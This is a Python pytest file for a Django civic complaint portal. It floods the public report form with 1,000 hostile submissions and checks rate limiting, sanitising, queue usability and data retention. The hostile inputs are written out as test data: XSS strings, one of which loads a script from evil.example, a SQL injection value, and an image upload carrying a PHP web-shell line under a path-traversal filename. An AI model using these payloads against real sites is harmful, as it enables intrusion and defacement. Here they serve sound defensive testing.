"""1,000 hostile submissions leave a usable queue and no stored script; a real one gets its code and its answer."""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import timedelta
from typing import Any
from unittest.mock import patch
from urllib.parse import urlencode

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from grids.models import Incident, PublicSubmission
from grids.services.retention import blank_expired
from pingan.common.models import OutboxEntry
from pingan.files.models import StoredFile
from pingan.files.services import open_file
from tests.factories.files import image_bytes
from tests.factories.incidents import step
from tests.factories.submissions import code_in, given_submission, report_fields, row_of, send_report
from tests.factories.world import Place

pytestmark = pytest.mark.django_db
HOSTILE = 1000
SCRIPTS = (
    "<script>alert(1)</script>路灯坏了",
    "<img src=x onerror=alert(1)>井盖丢了",
    "</textarea><svg/onload=alert(1)>噪音扰民",
    "'\"><script src=//evil.example/x.js></script>",
    "< script >fetch('/console/')</ script >垃圾",
    "{{ request.user }}{% debug %}<iframe src=javascript:alert(1)>",
)
ADVERTS = (
    "加微信赚大钱 www.bonus{n}.com",
    "点击领取 https://win{n}.top/x",
    "asdf zxcv qwrt {n}",
    "澳门 casino{n}.vip 开户",
)


@pytest.fixture(autouse=True)
def _no_counts_of_other_tests() -> Iterator[None]:
    cache.clear()
    yield
    cache.clear()


def hostile(place: Place, number: int, lot: random.Random) -> Any:
    """Send one hostile thing; three of four come from a few lines, the rest each from another."""
    line = f"198.51.100.{number % 20}" if lot.random() < 0.75 else f"10.{number // 250}.{number % 250}.7"
    address = f"/public/report/?county={place.county.code[:6]}"
    client, kind = Client(), number % 8
    if kind == 0:
        return send_report(place, client, line=line, text=lot.choice(SCRIPTS), place_text=lot.choice(SCRIPTS))
    if kind == 1:
        return send_report(place, client, line=line, text=lot.choice(ADVERTS).format(n=number))
    if kind == 2:
        return send_report(place, client, line=line, text="我要投诉" * 20)
    if kind == 3:  # oversized words and contacts
        return send_report(place, client, line=line, text="长" * 20_000, name="名" * 900, phone="1" * 900)
    if kind == 4:  # GBK where UTF-8 was promised, NUL, lone surrogates, bytes of nothing
        fields = report_fields(place, text="")
        raw = (
            urlencode(fields).encode()
            + b"&text="
            + lot.choice(
                (
                    "路灯坏了，没有人修".encode("gbk"),
                    b"%FF%FE%00%C0%80",
                    b"%ED%A0%80abc%00",
                    "井盖%u4E95".encode(),
                )
            )
        )
        return client.post(address, raw, content_type="application/x-www-form-urlencoded", REMOTE_ADDR=line)
    if kind == 5:  # a body that is no form, or says so in a charset nobody knows
        content_type = lot.choice(
            (
                "multipart/form-data; boundary=x",
                "application/json",
                "text/plain; charset=utf-99",
                "application/x-www-form-urlencoded; charset=utf-99",
                "application/x-www-form-urlencoded; charset=utf-16",
            )
        )
        return client.generic("POST", address, b"--x\r\n\xff\xfe garbage", content_type, REMOTE_ADDR=line)
    if kind == 6:
        poison = lot.choice(
            (
                SimpleUploadedFile("a.jpg", b"\xff\xd8\xff<script>alert(1)</script>", "image/jpeg"),
                SimpleUploadedFile("a.svg", b"<svg onload='alert(1)'/>", "image/svg+xml"),
                SimpleUploadedFile("a.html", b"<script>alert(1)</script>", "text/html"),
                SimpleUploadedFile("../../x.jpg", image_bytes() + b"<?php system($_GET[0]) ?>", "image/jpeg"),
            )
        )
        return send_report(place, client, line=line, text=f"见照片{number}", photos=[poison])
    return send_report(
        place,
        client,
        line=line,
        website="http://x",
        region="'; drop table x; --",
        longitude="1e999",
        form_number="x" * 500,
    )


def flooded(place: Place) -> tuple[str, dict[int, int]]:
    """Send 1,000 hostile things and, in their midst, a real one; return its code, and how often each status was answered."""
    lot, now, real = random.Random(54), timezone.now().timestamp(), ""
    statuses: dict[int, int] = {}
    with patch("pingan.web.throttling.time.time") as clock:
        for number in range(HOSTILE):
            clock.return_value = now + number / 4  # four a second
            status = hostile(place, number, lot).status_code
            statuses[status] = statuses.get(status, 0) + 1
            if number == 500:
                sent = send_report(
                    place, line="203.0.113.77", text="朱坊村小学门口的护栏倒了，孩子上学很危险",
                    longitude=str(place.point[0]), latitude=str(place.point[1]),
                )  # fmt: skip
                real = code_in(sent)
    return real, statuses


def no_script_is_stored() -> None:
    for row in PublicSubmission.objects.all():
        words = f"{row.text}{row.place_text or ''}{row.reporter_name or ''}".lower()
        assert not any(sign in words for sign in ("<script", "<img", "<svg", "</", "<iframe", "\0")), words
    for file in StoredFile.objects.all():
        content = b"".join(open_file(file))
        assert file.kind == "photo" and b"<script" not in content and b"<?php" not in content
        assert "/" not in file.original_name


def decline_what_is_aside(desk: Client) -> int:
    """Decline it page by page; return how many sittings that took."""
    sittings = 0
    aside = PublicSubmission.objects.filter(is_set_aside=True, state="waiting")
    while chosen := list(aside.values_list("pk", flat=True)[:50]):
        sent = {"chosen": chosen, "reason": "no_concern", "note": ""}
        assert desk.post("/submissions/?part=set_aside", sent).status_code == 302
        sittings += 1
    return sittings


def test_a_thousand_hostile_submissions_leave_a_usable_queue_and_no_stored_script(here: Place) -> None:
    real, statuses = flooded(here)
    assert set(statuses) <= {201, 400, 422, 429}, statuses
    assert statuses[429] > 50 and statuses[422] > 100, statuses
    no_script_is_stored()
    # The queue is usable: the real one stands on its first page, the rest aside or not there at all.
    desk = here.client("township_desk")
    row = row_of(real)
    assert row.number in desk.get("/submissions/").content.decode() and not row.is_set_aside
    waiting = PublicSubmission.objects.filter(is_set_aside=False).count()
    assert waiting <= 50, waiting
    assert OutboxEntry.objects.filter(job="notify.deliver").count() == waiting
    first = PublicSubmission.objects.earliest("pk")
    for page in ("/submissions/", "/submissions/?part=set_aside", f"/submissions/{first.pk}/"):
        shown = desk.get(page).content.decode()
        assert "<script>alert" not in shown and "<img src=x" not in shown and "<svg/onload" not in shown
    assert decline_what_is_aside(desk) <= 20
    # And the real one gets its answer.
    desk.post(
        f"/submissions/{row.pk}/take/",
        {"category": "APPEAL.FACILITY.LAMP", "urgency": "normal", "region": ""},
    )
    row.refresh_from_db()
    incident = Incident.objects.select_related("matter").get(pk=row.matter_id)
    for action in ("accept", "dispatch", "sign", "handle", "verify", "answer"):
        incident = step(here, incident, action)
    assert "已电话告知" in Client().post("/public/progress/", {"code": real}).content.decode()


def test_a_request_larger_than_anybody_sends_is_not_read(here: Place) -> None:
    address = f"/public/report/?county={here.county.code[:6]}"
    sent = Client().post(
        address,
        b"--x\r\n",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(40 * 1024 * 1024),
    )
    assert sent.status_code in {400, 413} and not PublicSubmission.objects.exists()


def test_what_tells_floods_is_forgotten_after_a_day_and_words_after_their_term(here: Place) -> None:
    row = given_submission(here, line="a" * 64, name="张建国", phone="13812345678").submission
    desk = here.client("township_desk")
    desk.post(f"/submissions/{row.pk}/decline/", {"reason": "outside", "note": "请向邻县反映"})
    blank_expired(timezone.now() + timedelta(hours=12))
    row.refresh_from_db()
    assert row.line_digest and row.text_digest
    blank_expired(timezone.now() + timedelta(hours=25))
    row.refresh_from_db()
    assert row.line_digest == row.text_digest == "" and row.reporter_phone == "13812345678"
    assert blank_expired(timezone.now() + timedelta(days=366)) == 1
    row.refresh_from_db()
    assert (row.text, row.place_text, row.reporter_name, row.reporter_phone) == ("", None, None, None)
    assert row.decline_reason == "outside" and row.decline_note is None
    assert blank_expired(timezone.now() + timedelta(days=366)) == 0
